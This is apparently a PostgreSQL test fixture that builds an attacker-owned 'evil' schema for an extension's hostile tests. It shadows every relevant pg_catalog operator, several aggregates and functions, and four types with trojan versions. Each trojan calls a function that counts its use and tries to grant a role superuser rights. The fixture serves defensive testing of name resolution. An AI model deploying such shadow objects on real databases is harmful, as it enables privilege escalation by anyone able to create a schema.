-- Shadows of the operators, aggregates, functions and types the extension's statements use, in
-- schema `evil` (which must exist, owned by the attacker), for the hostile tests: each counts its
-- calls in the sequence evil.calls (not transactional: a call counts even when its transaction
-- fails) and tries to make the role @ROLE@ a superuser (it succeeds if a superuser calls it).
-- Used by tests/integration/tests/hostile.rs and tests/upgrade/run.sh (@ROLE@ replaced).
CREATE SEQUENCE evil.calls;
GRANT USAGE ON SCHEMA evil TO PUBLIC;
GRANT USAGE, SELECT, UPDATE ON SEQUENCE evil.calls TO PUBLIC;
CREATE FUNCTION evil.hit() RETURNS boolean LANGUAGE plpgsql AS $f$
BEGIN
    PERFORM pg_catalog.nextval('evil.calls');
    BEGIN
        EXECUTE pg_catalog.format('ALTER ROLE %I SUPERUSER', '@ROLE@');
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
    RETURN true;
END $f$;
GRANT EXECUTE ON FUNCTION evil.hit() TO PUBLIC;
-- Every pg_catalog operator on the types above, shadowed by one that calls evil.hit() first.
DO $d$
DECLARE o record; n int := 0;
BEGIN
    FOR o IN SELECT p.oprname, p.oprleft, p.oprright, p.oprresult, p.oprcode
               FROM pg_catalog.pg_operator p
              WHERE p.oprnamespace OPERATOR(pg_catalog.=) 'pg_catalog'::pg_catalog.regnamespace
                AND (p.oprleft OPERATOR(pg_catalog.=) 0
                     OR pg_catalog.format_type(p.oprleft, NULL) OPERATOR(pg_catalog.=) ANY (ARRAY['text', 'int8', 'int4', 'numeric', 'timestamptz', 'jsonb', 'bool', 'uuid', 'interval', 'oid', 'name']::pg_catalog.text[]
                        OPERATOR(pg_catalog.||) ARRAY['bigint', 'integer', 'boolean', 'timestamp with time zone']))
                AND pg_catalog.format_type(p.oprright, NULL) OPERATOR(pg_catalog.=) ANY (ARRAY['text', 'int8', 'int4', 'numeric', 'timestamptz', 'jsonb', 'bool', 'uuid', 'interval', 'oid', 'name']::pg_catalog.text[]
                        OPERATOR(pg_catalog.||) ARRAY['bigint', 'integer', 'boolean', 'timestamp with time zone', 'text[]', 'bigint[]'])
    LOOP
        n := n OPERATOR(pg_catalog.+) 1;
        IF o.oprleft OPERATOR(pg_catalog.=) 0 THEN
            EXECUTE pg_catalog.format('CREATE FUNCTION evil.op%s(b %s) RETURNS %s LANGUAGE plpgsql AS '
                '$b$ BEGIN PERFORM evil.hit(); RETURN %s(b); END $b$', n,
                o.oprright::pg_catalog.regtype, o.oprresult::pg_catalog.regtype, o.oprcode::pg_catalog.regproc);
            EXECUTE pg_catalog.format('CREATE OPERATOR evil.%s (RIGHTARG = %s, FUNCTION = evil.op%s)',
                o.oprname, o.oprright::pg_catalog.regtype, n);
        ELSE
            EXECUTE pg_catalog.format('CREATE FUNCTION evil.op%s(a %s, b %s) RETURNS %s LANGUAGE plpgsql AS '
                '$b$ BEGIN PERFORM evil.hit(); RETURN %s(a, b); END $b$', n,
                o.oprleft::pg_catalog.regtype, o.oprright::pg_catalog.regtype, o.oprresult::pg_catalog.regtype,
                o.oprcode::pg_catalog.regproc);
            EXECUTE pg_catalog.format('CREATE OPERATOR evil.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = evil.op%s)',
                o.oprname, o.oprleft::pg_catalog.regtype, o.oprright::pg_catalog.regtype, n);
        END IF;
    END LOOP;
END $d$;
-- Aggregates and functions the extension's texts call.
CREATE FUNCTION evil.sum_step(s numeric, v numeric) RETURNS numeric LANGUAGE plpgsql AS
    $b$ BEGIN PERFORM evil.hit(); RETURN pg_catalog.numeric_add(pg_catalog.coalesce(s, 0), v); END $b$;
CREATE FUNCTION evil.sum_step8(s numeric, v bigint) RETURNS numeric LANGUAGE plpgsql AS
    $b$ BEGIN PERFORM evil.hit(); RETURN pg_catalog.numeric_add(pg_catalog.coalesce(s, 0), v::numeric); END $b$;
CREATE AGGREGATE evil.sum(bigint) (SFUNC = evil.sum_step8, STYPE = numeric);
CREATE AGGREGATE evil.sum(numeric) (SFUNC = evil.sum_step, STYPE = numeric);
CREATE FUNCTION evil.count_step(s bigint) RETURNS bigint LANGUAGE plpgsql AS
    $b$ BEGIN PERFORM evil.hit(); RETURN pg_catalog.int8pl(s, 1); END $b$;
CREATE AGGREGATE evil.count(*) (SFUNC = evil.count_step, STYPE = bigint, INITCOND = '0');
CREATE FUNCTION evil.max_step(s timestamptz, v timestamptz) RETURNS timestamptz LANGUAGE plpgsql AS
    $b$ BEGIN PERFORM evil.hit(); RETURN pg_catalog.timestamptz_larger(s, v); END $b$;
CREATE AGGREGATE evil.max(timestamptz) (SFUNC = evil.max_step, STYPE = timestamptz);
CREATE FUNCTION evil.now() RETURNS timestamptz LANGUAGE plpgsql AS
    $b$ BEGIN PERFORM evil.hit(); RETURN pg_catalog.now(); END $b$;
CREATE FUNCTION evil.to_jsonb(v anyelement) RETURNS jsonb LANGUAGE plpgsql AS
    $b$ BEGIN PERFORM evil.hit(); RETURN pg_catalog.to_jsonb(v); END $b$;
CREATE FUNCTION evil.unnest(v anyarray) RETURNS SETOF anyelement LANGUAGE plpgsql AS
    $b$ BEGIN PERFORM evil.hit(); RETURN QUERY SELECT pg_catalog.unnest(v); END $b$;
CREATE FUNCTION evil.date_bin(i interval, t timestamptz, o timestamptz) RETURNS timestamptz LANGUAGE plpgsql AS
    $b$ BEGIN PERFORM evil.hit(); RETURN pg_catalog.date_bin(i, t, o); END $b$;
CREATE FUNCTION evil.pg_notify(c text, p text) RETURNS void LANGUAGE plpgsql AS
    $b$ BEGIN PERFORM evil.hit(); PERFORM pg_catalog.pg_notify(c, p); END $b$;
CREATE FUNCTION evil.jsonb_typeof(v jsonb) RETURNS text LANGUAGE plpgsql AS
    $b$ BEGIN PERFORM evil.hit(); RETURN pg_catalog.jsonb_typeof(v); END $b$;
CREATE FUNCTION evil.current_setting(v text) RETURNS text LANGUAGE plpgsql AS
    $b$ BEGIN PERFORM evil.hit(); RETURN pg_catalog.current_setting(v); END $b$;
-- Types: a domain of the same name checks every value cast to it.
CREATE DOMAIN evil.text AS pg_catalog.text CHECK (evil.hit());
CREATE DOMAIN evil.jsonb AS pg_catalog.jsonb CHECK (evil.hit());
CREATE DOMAIN evil.timestamptz AS pg_catalog.timestamptz CHECK (evil.hit());
CREATE DOMAIN evil.uuid AS pg_catalog.uuid CHECK (evil.hit());
